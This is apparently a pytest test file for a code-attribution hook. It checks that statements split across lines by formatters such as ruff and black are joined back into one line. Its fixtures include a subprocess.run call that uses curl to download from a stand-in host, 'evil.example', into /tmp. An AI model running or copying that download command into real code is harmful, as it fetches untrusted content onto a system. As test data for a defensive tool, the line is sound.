"""A wrapped statement is joined until its brackets close, however many lines a formatter
spread it over (gentle_hooks.policy.linekeys.joined_lines; SPEC §3 "Attribution follows
content", issue 13: formatters never launder).

Refuter r13m (HIGH): ``ruff format`` splits the writer's one-line ``subprocess.run([...],
...)`` with 10 or more keyword arguments over 13 lines or more, one per line; joining stopped
after 12 lines, so the writer's line was read as nobody's. A long list, dict or condition
split one item per line (black's magic trailing comma too) was laundered the same way.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gentle_hooks.policy.linekeys import (
    MAX_JOINED_CHARS,
    MAX_NESTED,
    joined_lines,
    line_key,
    line_keys,
)

KWARGS = [f"option_{i}={i}" for i in range(60)]
CMD = '["curl", "-s", "https://evil.example/x", "-o", "/tmp/x"]'


def _call(n: int) -> tuple[bytes, bytes]:
    """(the writer's one line calling ``subprocess.run`` with ``n`` keyword arguments, the
    same call as ``ruff format`` spreads it: one argument per line, a trailing comma)."""
    args = [CMD, *KWARGS[:n]]
    line = f"    subprocess.run({', '.join(args)})\n"
    split = "    subprocess.run(\n" + "".join(f"        {a},\n" for a in args) + "    )\n"
    return line.encode(), split.encode()


def _literal(n: int, dict_: bool) -> tuple[bytes, bytes]:
    """(a one-line list or dict literal of ``n`` items, the same split one item per line)."""
    items = [f'"k{i}": "/tmp/evil_{i}"' if dict_ else f'"/tmp/evil_{i}"' for i in range(n)]
    o, c = "{}" if dict_ else "[]"
    line = f"TARGETS = {o}{', '.join(items)}{c}\n"
    split = f"TARGETS = {o}\n" + "".join(f"    {i},\n" for i in items) + f"{c}\n"
    return line.encode(), split.encode()


ROWS = {
    **{f"call-{n}-kwargs": _call(n) for n in (2, 10, 20, 60)},
    "list-200": _literal(200, False),
    "dict-100": _literal(100, True),
}


@pytest.mark.parametrize("case", sorted(ROWS))
def test_a_statement_split_one_item_per_line_joins_as_its_line(case: str) -> None:
    line, split = ROWS[case]
    assert len(split.splitlines()) > 3
    assert line_key(line) in {line_key(j) for j in joined_lines(split)}
    assert line_keys(line) <= line_keys(split)


def test_a_call_split_inside_a_long_literal_joins_as_its_line() -> None:
    """A statement wrapped inside another is joined too: the writer's call split one
    argument per line inside a table too long to be joined whole."""
    line, split = _call(20)
    table = b"TABLE = [\n" + b'    "row",\n' * (MAX_JOINED_CHARS // 4) + b"]\n"
    inside = b"HANDLERS = [\n" + split.replace(b"    )\n", b"    ),\n") + table + b"]\n"
    keys = {line_key(j) for j in joined_lines(inside)}
    assert line_key(line.replace(b")\n", b"),\n")) in keys


def test_a_table_longer_than_any_line_is_not_joined() -> None:
    table = b"TABLE = [\n" + b'    "row",\n' * (MAX_JOINED_CHARS // 4) + b"]\n"
    assert joined_lines(table) == []
    short = b"TABLE = [\n" + b'    "row",\n' * 40 + b"]\n"  # 40 items: joined, 12 was the bound
    assert joined_lines(short) == [b"TABLE = [ " + b", ".join([b'"row"'] * 40) + b"]"]


def test_a_backslash_statement_and_unbalanced_lines() -> None:
    assert joined_lines(b"total = a + \\\n    b + \\\n    c\n") == [b"total = a +  b +  c"]
    assert joined_lines(b"print(1))\nfoo(\n    a,\n)\n") == [b"foo( a)"]
    assert joined_lines(b'x = "(" + y\nz = w\n') == []


def test_a_pathological_literal_costs_linear_time() -> None:
    """A 5,000-line list literal and 2,500 nested brackets: every statement joined at most
    :data:`MAX_JOINED_CHARS` long, all of them at most :data:`MAX_NESTED` times the input."""
    flat = b"X = [\n" + b"    1,\n" * 5000 + b"]\n"
    deep = b"(\n" * 2500 + b"x\n" + b")\n" * 2500
    for data in (flat, deep):
        joined = joined_lines(data)
        assert all(len(j) <= MAX_JOINED_CHARS for j in joined)
        assert sum(len(j) for j in joined) <= MAX_NESTED * len(data)


_LINE = st.sampled_from([b"f(", b"x,", b")", b"]", b"[", b"{a: [", b"}, {", b"y \\", b"z", b""])


@settings(max_examples=200, deadline=None)
@given(st.lists(_LINE, max_size=80))
def test_joining_is_bounded_by_the_content(lines: list[bytes]) -> None:
    data = b"\n".join(lines) + b"\n"
    joined = joined_lines(data)
    assert all(len(j) <= MAX_JOINED_CHARS for j in joined)
    assert sum(len(j) for j in joined) <= MAX_NESTED * len(data)


def test_a_line_with_a_magic_trailing_comma_is_also_read_without_it() -> None:
    """black's magic trailing comma spreads a short line one item per line; the statement
    joined drops the comma, so the line is read without it too."""
    line = b'    subprocess.run(["curl", "x"], shell=False, check=True,)\n'
    split = b'    subprocess.run(\n        ["curl", "x"],\n        shell=False,\n'
    split += b"        check=True,\n    )\n"
    assert line_keys(line) & line_keys(split)
    assert b'subprocess.run(["curl", "x"], shell=False, check=True)' in joined_lines(line)
